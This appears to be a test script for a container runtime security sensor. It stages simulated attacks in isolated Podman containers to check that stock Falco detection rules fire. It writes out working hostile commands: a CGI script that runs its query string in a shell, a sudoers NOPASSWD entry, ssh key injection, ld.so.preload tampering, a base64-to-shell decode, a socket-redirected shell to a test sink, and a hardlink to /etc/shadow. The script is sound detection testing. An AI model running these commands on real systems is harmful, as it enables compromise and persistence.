#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# t-behaviours.sh — the attacks and benign workloads of
# ../shared/testdata/runtime/behaviours.md, each in its own Podman container, against one
# `bulkhead sensor run` with the three stock Falco rules files (read in place, unchanged).
#
# The rig: one busybox test image built once per run with the static helpers of
# tests/slow/behaviours/ compiled into its layer (so they run from the lower layer and do
# not look like dropped binaries), a podman network on 198.18.0.0/24 (the benchmarking
# range: only this test's containers live there) with a sink container at 198.18.0.10
# (httpd on 8000, listeners on 3333 and 4444 that close at once).
#
# For each attack: the named rule fired with that container's id (12 hex digits) and the
# acting process. For each benign workload: no alert of priority Warning or above from a
# falco_rules.yaml rule for its container. Alerts are matched by container, never counted:
# other processes on the machine act all the time.
#
# Falco prints the container of every alert because its container plugin appends
# container_id/container_name to each output (append_output); bulkhead puts into
# output_fields only the fields the rule's output names, and the stock outputs name no
# container field. So the test loads one more rules file of its own that appends
# "container_id=%container.id container_name=%container.name proc_name=%proc.name" to the
# output of every loaded rule (override: output: append), the stock files stay unchanged.
#
# A table behaviour -> rule -> PASS/FAIL/SKIP(reason) is printed; only the behaviours in
# REQUIRED fail the test (those that pass reliably); the others are reported.
# Exit 0 pass, 1 fail, 77 skip (not root; no BTF; no sensor command; built without BPF;
# podman, runc, jq, busybox-static or cc missing; stock rules absent).
# Environment (set by tests/meson.build): BULKHEAD, BH_SOURCE_ROOT. KEEP=1 keeps the work
# directory (alerts, sensor stderr) for a look afterwards.
set -u

: "${BULKHEAD:?BULKHEAD is not set}"
: "${BH_SOURCE_ROOT:=$(cd "$(dirname "$0")/../.." && pwd)}"

# Not required, failing on a bulkhead gap (see the closing note of issue 5): A39
# (thread.cap_permitted of unshare is read after the call, in the new user namespace).
REQUIRED="A01 A03 A04 A06 A08 A09 A10 A11 A12 A13 A14 A15 A16 A22 A24 A25 A27 A29 A30 A32 A34
A35 A37 A41 A42 A44 A47 A49 A52 A54 N01 N02 N03 N04 N05 N06 N08 N09 N10 N11 N12 N13 N15"

. "$BH_SOURCE_ROOT/tests/slow/lib-sensor.sh"
bh_sensor_require cc || exit $?
TD=$BH_SOURCE_ROOT/../shared/testdata/runtime
for f in falco_rules.yaml falco-incubating_rules.yaml falco-sandbox_rules.yaml; do
	[ -f "$TD/$f" ] || { echo "SKIP: $TD/$f is absent"; exit 77; }
done

. "$BH_SOURCE_ROOT/tests/slow/lib-containers.sh"
bh_ctr_require || exit $?

bh_ctr_setup
W=$BH_CTR_DIR
NET=bhbehav$$
net_made=
cleanup()
{
	bh_sensor_kill
	# containers first (they hold the network), then the network, then image and state
	while IFS= read -r n; do
		[ -n "$n" ] && bh_ctr_podman_stop "$n"
	done <"$W/podman.list"
	[ -z "$net_made" ] || podman network rm -f "$NET" >/dev/null 2>&1 || true
	if [ -n "${KEEP:-}" ]; then
		keep=$(mktemp -d /tmp/bh-behaviours-keep.XXXXXX)
		cp "$W"/alerts.jsonl "$W"/sensor.err "$W"/table "$keep"/ 2>/dev/null
		echo "kept: $keep"
	fi
	bh_ctr_cleanup
}
trap cleanup EXIT
trap 'exit 1' INT TERM
t0=$(date +%s)

# --- the helpers, compiled static; the image's extra files ------------------------------
mkdir -p "$W/files"
set --
for src in "$BH_SOURCE_ROOT"/tests/slow/behaviours/bh-*.c; do
	h=$(basename "$src" .c)
	cc -static -O2 -std=gnu17 -o "$W/files/$h" "$src" 2>"$W/cc.err" || {
		echo "SKIP: cannot build static helpers (libc6-dev's libc.a?):"
		sed 's/^/    /' "$W/cc.err"
		exit 77
	}
	set -- "$@" "$W/files/$h:/usr/local/bin/$h"
done
# A10: a program named debugfs; A34: a program named apk (a busybox image has no package
# manager; what the rule sees is the exec of one)
set -- "$@" "$W/files/bh-spin:/usr/sbin/debugfs" "$W/files/bh-spin:/sbin/apk"
# A22: a CGI script that hands its query string to a shell
printf '%s\n' '#!/bin/sh' 'echo "Content-Type: text/plain"' 'echo' '/bin/sh -c "$QUERY_STRING"' \
	>"$W/files/run.cgi"
chmod 755 "$W/files/run.cgi"
echo '<html>bulkhead</html>' >"$W/files/index.html"
printf '%s\n' '#!/bin/sh' 'cat /proc/loadavg; ls /www' >"$W/files/health"
chmod 755 "$W/files/health"
echo 'tool' >"$W/files/t"
head -c 4096 /dev/urandom >"$W/files/junk.ko"
# N10: the image's own crontab, gzipping old logs
echo '* * * * * gzip -f /var/log/app/old.log' >"$W/files/crontab"
set -- "$@" "$W/files/run.cgi:/www/cgi-bin/run" "$W/files/index.html:/www/index.html" \
	"$W/files/t:/www/t" "$W/files/health:/usr/local/bin/health" "$W/files/junk.ko:/opt/junk.ko" "$W/files/crontab:/etc/crontabs/root"
img=$(bh_ctr_image_build "bhtest-behav$$" "$@") || { echo "FAIL: cannot build the image"; exit 1; }

# --- rules: the stock files unchanged, plus the container fields in every output ------
: >"$W/empty.jsonl"
"$BULKHEAD" sensor replay "$W/empty.jsonl" --rules "$TD/falco_rules.yaml" \
	--rules "$TD/falco-incubating_rules.yaml" --rules "$TD/falco-sandbox_rules.yaml" \
	--report-rules >/dev/null 2>"$W/report" || {
	echo "FAIL: the stock rules do not load:"
	sed 's/^/    /' "$W/report"
	exit 1
}
sed -n 's/: loaded$//p' "$W/report" | while IFS= read -r r; do
	printf -- '- rule: "%s"\n  output: container_id=%%container.id container_name=%%container.name proc_name=%%proc.name\n  override:\n    output: append\n\n' \
		"$r"
done >"$W/container-fields.yaml"
# the rules whose Warning+ alerts a benign workload must not raise
sed -n 's/^- rule: //p' "$TD/falco_rules.yaml" | jq -R . | jq -s . >"$W/stock-rules.json"

podman network create --subnet 198.18.0.0/24 "$NET" >/dev/null || {
	echo "FAIL: cannot create the podman network $NET"
	exit 1
}
net_made=1

bh_sensor_start "$W/sensor.out" "$W/sensor.err" --rules "$TD/falco_rules.yaml" \
	--rules "$TD/falco-incubating_rules.yaml" --rules "$TD/falco-sandbox_rules.yaml" \
	--rules "$W/container-fields.yaml" --all-matches --alerts "file:$W/alerts.jsonl" || exit $?

# --- containers ----------------------------------------------------------------------
# table: ID|rule|process|container name|status ("run", or "skip:REASON")
: >"$W/table"
P=bhb$$
PREP=
ctr() # ID [podman run options] -- CMD...: start container $P-ID on the network
{
	_id=$1
	shift
	_o=
	while [ "$1" != -- ]; do
		_o="$_o $1"
		shift
	done
	shift
	# shellcheck disable=SC2086 # _o holds options without spaces in them
	bh_ctr_podman_start "$P-$_id" --network "$NET" $_o "$img" "$@" >"$W/start-$_id.err" 2>&1
}
# attack ID RULE PROCESS [run options] -- ACTION...: the action runs with podman exec in
# a container of its own that sleeps
attack()
{
	_id=$1 _rule=$2 _proc=$3
	shift 3
	_o=
	while [ "$1" != -- ]; do
		_o="$_o $1"
		shift
	done
	shift
	# shellcheck disable=SC2086
	if ! ctr "$_id" $_o -- sleep 600; then
		echo "$_id|$_rule|$_proc|$P-$_id|skip:container did not start: $(tail -n 1 "$W/start-$_id.err")" >>"$W/table"
		return 0
	fi
	# busybox sh runs its applets in a forked child without execve: what must be seen as
	# an exec (spawned_process) is run directly by podman exec, its preparation here
	[ -z "$PREP" ] || podman exec "$P-$_id" sh -c "$PREP" >"$W/prep-$_id.out" 2>&1 </dev/null
	PREP=
	podman exec "$P-$_id" "$@" >"$W/exec-$_id.out" 2>&1 </dev/null
	echo "$_id|$_rule|$_proc|$P-$_id|run" >>"$W/table"
}
skip()
{
	echo "$1|$2|-|-|skip:$3" >>"$W/table"
}
benign()
{
	_id=$1
	shift
	if ctr "$_id" "$@"; then
		echo "$_id|(none of falco_rules.yaml, Warning+)|-|$P-$_id|run" >>"$W/table"
	else
		echo "$_id|(none of falco_rules.yaml, Warning+)|-|$P-$_id|skip:container did not start: $(tail -n 1 "$W/start-$_id.err")" >>"$W/table"
	fi
}

ctr sink --ip 198.18.0.10 -- sh -c 'httpd -p 8000 -h /www;
	nc -ll -p 4444 -e /bin/true & nc -ll -p 3333 -e /bin/true & wait' ||
	{ echo "FAIL: the sink container did not start: $(cat "$W/start-sink.err")"; exit 1; }

# the benign workloads run while the attacks run
benign N01 --ip 198.18.0.200 -- httpd -f -p 8080 -h /www
ctr N01c -- sh -c 'while :; do wget -q -O- http://198.18.0.200:8080/ >/dev/null; sleep 0.2; done'
benign N02 -- sh -c 'i=0; while :; do echo "line $i" >>/var/log/app/app.log; i=$((i + 1));
	[ $((i % 50)) = 0 ] && mv /var/log/app/app.log /var/log/app/app.log.1; sleep 0.01; done'
benign N03 --health-cmd /usr/local/bin/health --health-interval disable -- sleep 600
benign N04 -- sh -c 'mkdir -p /usr/local/lib/app /opt/app && cp -r /etc/app /www /usr/local/lib/app/ &&
	cp /bin/busybox /opt/app/tool && sleep 600'
benign N05 -- sh -c 'while :; do cat /etc/app/app.conf >/dev/null; id app >/dev/null; sleep 0.5; done'
benign N06 -- sh -c 'while :; do i=0; while [ $i -lt 500 ]; do : >/tmp/f$i; i=$((i + 1)); done;
	rm -f /tmp/f*; done'
benign N08 -- sh -c 'sed -i s/8080/8081/ /etc/app/app.conf && exec httpd -f -p 8081 -h /www'
benign N09 -- sh -c 'i=0; while [ $i -lt 100 ]; do false; i=$((i + 1)); done; sleep 600'
benign N10 -- sh -c 'echo old >/var/log/app/old.log; exec crond -f -c /etc/crontabs'
benign N11 -- httpd -f -p 6379 -h /www
n11=$(podman inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' "$P-N11" 2>/dev/null)
ctr N11c -- sh -c "while :; do nc $n11 6379 </dev/null; sleep 0.02; done"
benign N12 -- su -s /bin/sh -c 'exec sleep 600' app
benign N13 -- sh -c 'dd if=/dev/zero of=/tmp/big bs=1M count=1024 2>/dev/null; rm /tmp/big; sleep 600'
skip N14 '(none)' 'no DNS on the podman network: CNI dnsname plugin is not installed'
benign N15 -- sh -c 'while :; do gzip -c /etc/passwd >/dev/null; sha256sum /etc/passwd >/dev/null;
	sleep 0.01; done'

# A01 needs a terminal: script(1) gives podman exec -t one
if command -v script >/dev/null 2>&1; then
	attack A01 'Terminal shell in container' sh -- true
	script -qec "podman exec -it $P-A01 /bin/sh -c 'echo hi'" /dev/null >"$W/exec-A01.out" 2>&1 </dev/null
else
	skip A01 'Terminal shell in container' 'script(1) is missing (no terminal for podman exec -t)'
fi
attack A03 'Directory traversal monitored file read' cat -- cat /tmp/../tmp/../etc/passwd
attack A04 'Create Hardlink Over Sensitive Files' ln -- ln /etc/shadow /tmp/h
PREP='echo data >/tmp/victim'
attack A06 'Remove Bulk Data from Disk' shred -- shred -u /tmp/victim
attack A08 'Packet socket created in container' bh-packet --cap-add NET_RAW -- bh-packet
attack A09 'Linux Kernel Module Injection Detected' bh-finit --privileged -- bh-finit /opt/junk.ko
attack A10 'Debugfs Launched in Privileged Container' debugfs --privileged -- debugfs 0
attack A11 'Detect release_agent File Container Escapes' sh --cap-add SYS_ADMIN -- \
	sh -c 'echo /x >/tmp/release_agent'
attack A12 'PTRACE attached to process' bh-ptattach -- bh-ptattach
attack A13 'PTRACE anti-debug attempt' bh-traceme -- bh-traceme
attack A14 'Find AWS Credentials' grep -- grep -r aws_secret_access_key /etc
# the kernel names a process exec'd from a memfd after the memfd ("memfd:NAME", 15 bytes)
attack A15 'Fileless execution via memfd_create' memfd:bh-payloa -- bh-memfd /bin/busybox true
attack A16 'Redirect STDOUT/STDIN to Network Connection in Container' bh-dupsh -- \
	bh-dupsh 198.18.0.10 4444
attack A22 'Run shell untrusted' sh -- sh -c 'httpd -p 8080 -h /www &&
	wget -q -O- "http://127.0.0.1:8080/cgi-bin/run?id"'
echo "A22X|Web Server Spawned Shell|sh|$P-A22|run" >>"$W/table"
attack A24 'Write below etc' touch -- touch /etc/evil.conf
attack A25 'Write below binary dir' cp -- cp /bin/busybox /usr/bin/evil
attack A27 'Schedule Cron Jobs' sh -- sh -c 'echo "* * * * * id" >>/etc/crontabs/root'
attack A29 'Adding ssh keys to authorized_keys' sh -- \
	sh -c 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBulkheadTestKey test" >>/root/.ssh/authorized_keys'
PREP='cp /bin/busybox /tmp/s'
attack A30 'Set Setuid or Setgid bit' chmod -- chmod u+s /tmp/s
PREP='echo ls >/root/.ash_history'
attack A32 'Delete or rename shell history' rm -- rm /root/.ash_history
attack A34 'Launch Package Management Process in Container' apk -- apk 0
attack A35 'Launch Ingress Remote File Copy Tools in Container' wget -- \
	wget -O /tmp/t http://198.18.0.10:8000/t
# busybox nc has no -z: a connect to a closed port is the probe
attack A37 'Launch Suspicious Network Tool in Container' nc -- nc -w1 198.18.0.10 80
attack A39 'Change namespace privileges via unshare' unshare --user 1000 \
	--security-opt seccomp=unconfined -- unshare -U -r sh -c id
PREP='mkdir -p /mnt/x'
attack A41 'Mount Launched in Privileged Container' mount --privileged -- \
	mount -t tmpfs none /mnt/x
attack A42 'Detect crypto miners using the Stratum protocol' bh-spin -- \
	bh-spin 2 stratum+tcp://198.18.0.10:3333
# base64 runs in a child of sh without execve: the alert is the shell's, whose command line
# holds the decode
attack A44 'Decoding Payload in Container' sh -- sh -c 'echo aWQK | base64 -d | sh'
skip A45 '(bulkhead resource monitor)' 'no stock rule; bulkhead has no resource monitor yet'
attack A47 'Write below etc' sh -- sh -c 'echo /tmp/x.so >/etc/ld.so.preload'
# /dev/mem is absent on these machines: read the first sector of the host's disk instead
disk=
for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do
	[ -b "$d" ] && { disk=$d; break; }
done
if [ -n "$disk" ]; then
	attack A49 'Privileged Container Device Access' dd --privileged -- \
		dd if="$disk" of=/dev/null bs=512 count=1
	# the rule's open_read needs the open to succeed (fd.num >= 0), as in Falco
	grep -q 'not permitted' "$W/exec-A49.out" &&
		sed -i "/^A49|/s/|run\$/|skip:the open of $(echo "$disk" | sed 's,/,\\/,g') is refused (EPERM) here; the rule needs it to succeed/" \
			"$W/table"
else
	skip A49 'Privileged Container Device Access' 'no /dev/vda, sda, nvme0n1 or xvda'
fi
skip A50 '(bulkhead baseline: file)' 'no stock rule; bulkhead has no baseline learning yet'
attack A52 'Write below etc' sh -- sh -c 'echo "app ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/app'
attack A54 'BPF Program Not Profiled' bh-bpf --privileged -- bh-bpf
skip D01 '(bulkhead baseline: process)' 'no stock rule; bulkhead has no baseline learning yet'
skip D02 '(bulkhead baseline: network)' 'no stock rule; bulkhead has no baseline learning yet'

# N03's healthcheck, run by podman (no terminal); no systemd timers here to run it
for _ in 1 2 3; do
	podman healthcheck run "$P-N03" >/dev/null 2>&1 </dev/null
done
sleep 2
bh_sensor_stop

# --- verdicts ------------------------------------------------------------------------
failures=0
pass=0
nfail=0
nskip=0
fmt='%-5s %-58s %s\n'
printf "$fmt" ID RULE RESULT
if [ "$BH_SENSOR_RC" != 0 ]; then
	echo "FAIL: the sensor exited with $BH_SENSOR_RC"
	failures=$((failures + 1))
fi
is_required()
{
	for r in $REQUIRED; do
		[ "$r" = "$1" ] && return 0
	done
	return 1
}
while IFS='|' read -r id rule proc name status; do
	case $status in
	skip:*)
		printf "$fmt" "$id" "$rule" "SKIP(${status#skip:})"
		nskip=$((nskip + 1))
		continue
		;;
	esac
	cid=$(bh_ctr_podman_id "$name" 2>/dev/null | cut -c1-12)
	why=
	case $id in
	N*)
		bad=$(jq -r -s --arg c "$cid" --slurpfile stock "$W/stock-rules.json" '
			[.[] | select(.output_fields["container.id"] == $c and
			  (.priority | IN("Emergency", "Alert", "Critical", "Error", "Warning")) and
			  (.rule as $r | $stock[0] | index($r)))
			 | "\(.rule) (\(.output_fields["proc.name"]))"] | unique | join("; ")' \
			"$W/alerts.jsonl")
		[ -z "$bad" ] || why="raised: $bad"
		;;
	*)
		bh_sensor_any "$W/alerts.jsonl" '.rule == $r and
			.output_fields["container.id"] == $c and .output_fields["proc.name"] == $p' \
			--arg r "$rule" --arg c "$cid" --arg p "$proc" 2>/dev/null ||
			why="fired here: $(jq -r -s --arg c "$cid" '[.[] |
				select(.output_fields["container.id"] == $c) |
				"\(.rule)/\(.output_fields["proc.name"])"] | unique | join("; ")' \
				"$W/alerts.jsonl")"
		;;
	esac
	if [ -z "$why" ]; then
		printf "$fmt" "$id" "$rule" PASS
		pass=$((pass + 1))
	elif is_required "${id%X}"; then
		printf "$fmt" "$id" "$rule" "FAIL (container $cid, process $proc; $why)"
		nfail=$((nfail + 1))
		failures=$((failures + 1))
	else
		printf "$fmt" "$id" "$rule" "FAIL, not required (container $cid, process $proc; $why)"
		nfail=$((nfail + 1))
	fi
done <"$W/table"
echo "behaviours: $pass passed, $nfail failed, $nskip skipped in $(($(date +%s) - t0)) s"
if [ "$failures" != 0 ]; then
	echo "--- sensor stderr (last lines)"
	bh_sensor_print_err 5
	exit 1
fi
exit 0
